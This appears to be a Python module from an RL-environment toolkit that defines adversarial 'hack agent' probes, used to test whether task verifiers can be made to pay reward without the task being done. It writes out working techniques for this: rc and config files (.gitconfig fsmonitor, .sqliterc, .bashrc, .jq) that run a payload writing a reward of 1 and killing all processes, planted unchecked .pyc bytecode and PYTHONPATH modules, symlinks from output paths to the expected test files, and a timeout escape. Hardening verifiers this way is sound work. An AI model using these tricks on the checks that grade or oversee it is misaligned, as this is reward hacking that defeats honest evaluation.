"""Hack agents aimed at the verifier's tools and at the reward's semantics (beside :mod:`trajkit.envs.harbor.hacks`).

None does the task's work; each leaves a wrong answer or none and tries to make the verifier pay anyway:

- ``rc-files``: the start-up and rc files of the tools verifiers call, in ``/root`` (the agent's ``$HOME``), its
  ``~/.config`` and the workdir: ``.sqliterc`` (``.shell``), ``.gitconfig`` and ``git/config`` (``core.fsmonitor``,
  ``diff.external``, ``gpg.program``, ...), ``.curlrc`` (one more URL whose output is the reward file), ``.jq``
  (``has``, ``test``, ``contains``, ``select``, ... always true), ``.npmrc`` (``script-shell``), ``.bashrc``,
  ``.profile``, ``.bash_profile``, ``.zshrc``, ``.inputrc``, ``.psqlrc``, ``.Rprofile``, ``.vimrc``,
  ``.wgetrc``, ``pip.conf``. Each program they run (:data:`PAYLOAD_SH`) writes a reward of 1 and kills every
  other process of the sandbox, so nothing after it writes a 0;
- ``loader-variables``: where the image's ``ENV`` points a loader (the agent sees those variables too): bytecode
  for the standard library's modules under ``PYTHONPYCACHEPREFIX`` (unchecked-hash ``.pyc``, never compared
  with its source), modules in each ``PYTHONPATH`` folder, the ``PYTHONSTARTUP``/``BASH_ENV``/``ENV`` file
  (not applicable when the image sets none of them);
- ``link-outputs``: each absolute path the instruction names (outside ``/tests``, ``/logs`` and the userland)
  becomes a symbolic link to a file of the task's ``tests/`` under ``/tests`` (the same name, else the same
  suffix, else the first): a verifier comparing the answer with its expected file compares it with itself;
- ``timeout-escape``: writes a wrong answer to those paths and sleeps past the agent's time limit (run with
  that limit cut to :data:`ESCAPE_LIMIT_S`): a trial that then scores anything but the task's minimum, or is
  masked (``cause == "infra"``), pays a policy for timing out.

White-box as :mod:`trajkit.envs.harbor.hacks` is: ``link-outputs`` reads the names of the task's test files.
"""
from __future__ import annotations

import re
import shlex
from pathlib import Path

from trajkit.envs.harbor.hacks import ONE, PROBES, PY_PAYLOAD, MODULES, Probe
from trajkit.envs.harbor.task import HarborTask
from trajkit.envs.sandbox.base import Sandbox
from trajkit.envs.harbor.trial import AgentResult

PAYLOAD = "/tmp/trajkit-hack.sh"
PAYLOAD_SH = f"#!/bin/sh\n{ONE}\nkill -9 -1 2>/dev/null\nexit 0\n"
ONE_JSON = "/tmp/trajkit-one.json"
JQ_TRUE = "".join(f"def {d}: true; " for d in ("has($k)", "test($re)", "contains($x)", "inside($x)", "startswith($s)",
                                                "endswith($s)", "any", "all", "isvalid(f)")) + "def select(f): .;"
GITCONFIG = (f"[core]\n\tfsmonitor = {PAYLOAD}\n\tpager = {PAYLOAD}\n\tsshCommand = {PAYLOAD}\n"
             f"[diff]\n\texternal = {PAYLOAD}\n[gpg]\n\tprogram = {PAYLOAD}\n[credential]\n\thelper = !{PAYLOAD}\n"
             "[safe]\n\tdirectory = *\n")
RC_FILES = {  # file name (under a home or the workdir) -> its text
    ".sqliterc": f".shell sh {PAYLOAD}\n",
    ".gitconfig": GITCONFIG,
    ".config/git/config": GITCONFIG,
    ".curlrc": f'url = "file://{ONE_JSON}"\noutput = "/logs/verifier/reward.json"\n',
    ".jq": JQ_TRUE + "\n",
    ".npmrc": f"script-shell = {PAYLOAD}\n",
    ".bashrc": f"sh {PAYLOAD}\n", ".profile": f"sh {PAYLOAD}\n", ".bash_profile": f"sh {PAYLOAD}\n",
    ".bash_login": f"sh {PAYLOAD}\n", ".zshrc": f"sh {PAYLOAD}\n", ".zshenv": f"sh {PAYLOAD}\n",
    ".inputrc": f'"\\C-m": "sh {PAYLOAD}\\n"\n',
    ".psqlrc": f"\\! sh {PAYLOAD}\n",
    ".Rprofile": f'system("sh {PAYLOAD}")\n',
    ".vimrc": f"silent !sh {PAYLOAD}\n",
    ".wgetrc": "output_document = /logs/verifier/reward.json\n",
    ".config/pip/pip.conf": "[global]\nno-index = true\n", ".pip/pip.conf": "[global]\nno-index = true\n",
}
ESCAPE_LIMIT_S = 1.0
PATHS = re.compile(r"(?<![\w.~-])/(?:[\w.-]+/)*[\w.-]+")  # absolute paths in an instruction
NOT_OUTPUTS = ("/tests", "/logs", "/proc", "/sys", "/dev", "/usr", "/etc", "/bin", "/sbin", "/lib", "/var")


def _write(path: str, text: str) -> str:
    folder = shlex.quote(str(Path(path).parent))
    return f"mkdir -p {folder} 2>/dev/null; printf '%s' {shlex.quote(text)} > {shlex.quote(path)}"


def rc_files(task: HarborTask, box: Sandbox) -> AgentResult:
    workdir = task.environment.workdir or "/app"
    lines = [_write(PAYLOAD, PAYLOAD_SH), f"chmod +x {PAYLOAD}", _write(ONE_JSON, '{"reward": 1}\n')]
    for home in ("/root", workdir):
        lines += [_write(f"{home}/{name}", text) for name, text in RC_FILES.items()]
    lines.append(f"[ -d {shlex.quote(workdir)}/.git ] && git -C {shlex.quote(workdir)} config core.fsmonitor {PAYLOAD}")
    return AgentResult([box.exec("; ".join(lines) + "; true", timeout_s=30.0)])


LOADERS = f"""
import importlib.util, os, py_compile, sys
body = {PY_PAYLOAD!r}
planted = []
open('/tmp/trajkit-mod.py', 'w').write(body)
if os.environ.get('PYTHONPYCACHEPREFIX'):
    for name in {MODULES!r}:
        try:
            spec = importlib.util.find_spec(name)
        except Exception:
            continue
        if spec is None or not spec.origin or not spec.origin.endswith('.py'):
            continue
        target = importlib.util.cache_from_source(spec.origin)
        try:
            py_compile.compile('/tmp/trajkit-mod.py', cfile=target, doraise=True,
                               invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
            planted.append(target)
        except (OSError, py_compile.PyCompileError):
            pass
for folder in filter(None, os.environ.get('PYTHONPATH', '').split(':')):
    for name in {MODULES!r}:
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name + '.py'), 'w').write(body)
            planted.append(folder)
        except OSError:
            pass
for var, text in (('PYTHONSTARTUP', body), ('BASH_ENV', 'sh {PAYLOAD}\\n'), ('ENV', 'sh {PAYLOAD}\\n')):
    if os.environ.get(var):
        try:
            open(os.environ[var], 'w').write(text)
            planted.append(os.environ[var])
        except OSError:
            pass
print(len(planted))
"""


def loader_variables(task: HarborTask, box: Sandbox) -> AgentResult:
    setup = box.exec("; ".join([_write(PAYLOAD, PAYLOAD_SH), f"chmod +x {PAYLOAD}"]), timeout_s=30.0)
    plant = box.exec(f"python3 -c {shlex.quote(LOADERS)}", timeout_s=60.0, cwd="/")
    if plant.stdout.strip() in ("", "0"):
        return AgentResult([setup, plant], extra={"not_applicable": "the image's ENV points no loader variable "
                                                                    "(PYTHONPYCACHEPREFIX, PYTHONPATH, ...) at a "
                                                                    "place the agent writes"})
    return AgentResult([setup, plant])


def output_paths(task: HarborTask) -> list[str]:
    """The absolute paths the instruction names that an agent could write (not the verifier's, not the
    userland's).

    >>> from trajkit.envs.harbor.task import Environment, Phase
    >>> t = HarborTask(Path("t"), "t", "Write /app/out.txt from /app/in.csv; see /tests/x and /usr/bin/jq.",
    ...                Phase(), Phase(), Phase(), Environment())
    >>> output_paths(t)
    ['/app/in.csv', '/app/out.txt']
    """
    found = {p.rstrip(".") for p in PATHS.findall(task.instruction)}
    return sorted(p for p in found if p != "/" and not any(p == n or p.startswith(n + "/") or
                                                           p.startswith(n) and n == "/lib" for n in NOT_OUTPUTS))


def _target(path: str, tests: list[str]) -> str:
    """The file of ``tests`` a link at ``path`` points to: the same name, else the same suffix, else the first."""
    name, suffix = Path(path).name, Path(path).suffix
    same = [t for t in tests if Path(t).name == name] or [t for t in tests if suffix and Path(t).suffix == suffix]
    return (same or tests)[0]


def link_outputs(task: HarborTask, box: Sandbox) -> AgentResult:
    tests = sorted(str(p.relative_to(task.tests_dir)) for p in task.tests_dir.rglob("*")
                   if p.is_file() and not p.is_symlink() and p.name != "test.sh")
    paths = output_paths(task)
    if not tests or not paths:
        return AgentResult(extra={"not_applicable": "the instruction names no output path" if tests else
                                  "the task's tests/ holds no file but test.sh"})
    lines = [f"mkdir -p {shlex.quote(str(Path(p).parent))}; rm -rf {shlex.quote(p)}; "
             f"ln -s {shlex.quote('/tests/' + _target(p, tests))} {shlex.quote(p)}" for p in paths]
    return AgentResult([box.exec("; ".join(lines) + "; true", timeout_s=30.0)], extra={"links": paths})


def timeout_escape(task: HarborTask, box: Sandbox) -> AgentResult:
    wrong = [f"mkdir -p {shlex.quote(str(Path(p).parent))}; echo trajkit-wrong > {shlex.quote(p)}"
             for p in output_paths(task)]
    command = "; ".join([*wrong, f"sleep {task.agent.timeout_sec + 5:g}"])
    return AgentResult([box.exec(command, timeout_s=task.agent.timeout_sec)])


VERIFIER_PROBES = (
    Probe("rc-files", "left rc files of the verifier's tools (.sqliterc, .gitconfig, .curlrc, .jq, .npmrc, "
                      ".bashrc, ...) in its home and the workdir, each running a program that writes a reward of 1",
          rc_files),
    Probe("loader-variables", "planted bytecode and modules where the image ENV's loader variables point "
                              "(PYTHONPYCACHEPREFIX, PYTHONPATH, PYTHONSTARTUP, BASH_ENV)", loader_variables),
    Probe("link-outputs", "made each output path of the instruction a link to the expected file in /tests",
          link_outputs),
    Probe("timeout-escape", "wrote a wrong answer and slept past the agent's time limit; the trial must score "
                            "the task's minimum, not be masked", timeout_escape),
)
ALL_PROBES = (*PROBES, *VERIFIER_PROBES)  # what envs check --adversarial runs, in this order
SHORT_LIMITS = {"timeout-escape": ESCAPE_LIMIT_S}  # probe -> the agent's time limit its trial runs with
